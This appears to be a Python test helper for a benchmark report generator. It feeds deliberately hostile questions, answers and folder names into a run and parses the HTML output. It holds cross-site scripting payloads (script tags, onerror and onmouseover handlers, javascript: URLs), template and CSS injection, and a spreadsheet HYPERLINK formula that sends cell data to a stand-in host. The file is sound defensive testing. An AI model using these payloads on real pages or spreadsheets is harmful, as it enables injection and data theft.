"""Runs for the tests of pages: one of an oracle, and one whose questions, answers and names try to break out."""

from __future__ import annotations

import base64
import gzip
import html.parser
import json
from collections.abc import Iterator
from dataclasses import dataclass
from functools import cache
from itertools import product
from pathlib import Path
from typing import Any

from filelock import FileLock

from mbbq_gen.cli.main import run_command_line
from mbbq_gen.core.records import Instance, Option, Polarity
from tests.conftest import shared

SCRIPT = "<script>window.stolen = 1; document.title = 'stolen'</script>"
HOSTILE = {
    "script": SCRIPT,
    "end of script": f"</script>{SCRIPT}<!--",
    "attribute": '" onmouseover="window.stolen=2" x=\'',
    "image": "<img src=x onerror=window.stolen=3>",
    "override": "A\u202e\u2066 gnihton \u2069\u202c\u200b",
    "formula": '=HYPERLINK("http://example.invalid/"&A1,"B")',
    "template": "{{ 7*7 }}{% raw %}${7*7}`",
    "style": "</style><style>*{display:none}</style>",
    "control": "\x1b[2J\x07\x00 answer: C",
    "long": f"A {'x' * 500_000} {SCRIPT} {'y' * 500_000} B",
    "url": "javascript:window.stolen=4 &lt;b&gt; &#x3c;script&#x3e;",
}


def oracle_run(folder: Path, oracle: str, *arguments: object) -> Path:
    """A run over some starter questions in English and Turkish, with control questions, in two prompt variants."""
    common = ["--benchmark", "starter", "--languages", "en,tr", "--variants", "bare,letters", "--sample", "48"]
    command = ["run", str(folder), "--model", f"oracle:{oracle}", *common, *map(str, arguments)]
    assert run_command_line(command) == 0
    return folder


def hostile_run(folder: Path) -> Path:
    """A run whose benchmark, ids, categories, texts and answers are hostile, in a folder with a hostile name."""
    folder.mkdir(parents=True, exist_ok=True)
    questions, answers = folder / "questions.jsonl", folder / "answers.jsonl"
    questions.write_text("".join(f"{line}\n" for line in _questions()), encoding="utf-8")
    lines = [json.dumps({"response": text}) for text in HOSTILE.values()]
    lines.append(json.dumps({"error": f"the service said {SCRIPT}"}))
    answers.write_text("\n".join(lines) + "\n", encoding="utf-8")
    run = folder / "run \"'><img src=x onerror=window.stolen=5>"
    command = ["run", str(run), "--model", f"scripted:{answers}", "--instances", str(questions), "--variants", "bare"]
    assert run_command_line(command) in {0, 1}  # 1: some answers are errors on purpose
    return run


def _questions() -> Iterator[str]:
    polarities: tuple[Polarity, ...] = ("negative", "non_negative")
    for (name, text), polarity, right in product(HOSTILE.items(), polarities, (None, 0, 1)):
        if name == "long" and (polarity, right) != ("negative", 0):
            continue
        people = [Option(role="target", text=f"The {name} {text[:200]}", group=SCRIPT)]
        people += [Option(role="non_target", text=f"The other {text[-200:]}", group="</td>")]
        yield Instance(
            benchmark=f"bench {HOSTILE['image']}",
            version=SCRIPT,
            split="bias",
            language="en",
            instance_id=f"{name} {polarity} {right} </script>",
            template_id=f"{name} {HOSTILE['end of script']}",
            category=f'cat "{HOSTILE["attribute"]}',
            condition="ambiguous" if right is None else "disambiguated",
            polarity=polarity,
            context=f"Two people met. {text}",
            question=f"Who was late? {text[:300]}",
            options=(*people, Option(role="unknown", text="Not known")),
            gold_index=2 if right is None else right,
        ).model_dump_json()


@dataclass(frozen=True)
class Made:
    """Runs and what a report made of them."""

    runs: tuple[Path, ...]
    page: Path
    figures: Path


@cache
def oracle_report(base: Path) -> Made:
    """A page of 100 items, and figures, of a stereotyped oracle and one that can't do the task.

    Made once for all processes of a test run: to be looked at only.

    `base`: the session's temporary folder.
    """
    folder = shared(base) / "oracle-report"
    runs = tuple(folder / oracle for oracle in ("stereotyped", "always_unknown"))
    made = Made(runs, folder / "report.html", folder / "figures")
    with FileLock(shared(base) / "oracle-report.lock"):
        if not (folder / "is-whole").exists():
            folder.mkdir()
            for run in runs:
                oracle_run(run, run.name)
            written = ["-o", str(made.page), "--figures", str(made.figures), "--page-samples", "100"]
            assert run_command_line(["report", *map(str, runs), *written]) == 0
            (folder / "is-whole").touch()
    return made


@cache
def hostile_report(base: Path) -> Made:
    """The page of a hostile run; once a session.

    `base`: the session's temporary folder.
    """
    folder = base / "hostile-report"
    made = Made((hostile_run(folder),), folder / "report.html", folder / "figures")
    assert run_command_line(["report", str(made.runs[0]), "-o", str(made.page)]) == 0
    return made


class Page(html.parser.HTMLParser):
    """What a browser would find in a page: elements with their attributes, scripts, styles and text."""

    def __init__(self, text: str) -> None:
        super().__init__(convert_charrefs=True)
        self.elements: list[tuple[str, dict[str, str | None]]] = []
        self.scripts: list[tuple[dict[str, str | None], str]] = []
        self.styles: list[str] = []
        self.text: list[str] = []
        self._inside: list[str] = []
        self.feed(text)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.elements.append((tag, dict(attrs)))
        if tag == "script":
            self.scripts.append((dict(attrs), ""))
        if tag == "style":
            self.styles.append("")
        self._inside.append(tag)

    def handle_endtag(self, tag: str) -> None:
        self._inside.append("")

    def handle_data(self, data: str) -> None:
        inside = self._inside[-1] if self._inside else ""
        if inside == "script":
            self.scripts[-1] = (self.scripts[-1][0], self.scripts[-1][1] + data)
        elif inside == "style":
            self.styles[-1] += data
        else:
            self.text.append(data)

    @property
    def policy(self) -> str:
        return next(
            attributes["content"] or ""
            for tag, attributes in self.elements
            if tag == "meta" and attributes.get("http-equiv") == "Content-Security-Policy"
        )

    @property
    def data(self) -> Any:
        """What stands in the elements that hold data; the items of a page are packed."""
        found: dict[str, Any] = {}
        for attributes, text in self.scripts:
            if attributes.get("type") == "application/json":
                found |= json.loads(text)
            elif attributes.get("type") == "application/gzip":
                found["items"] = json.loads(gzip.decompress(base64.b64decode(text)))
        return found
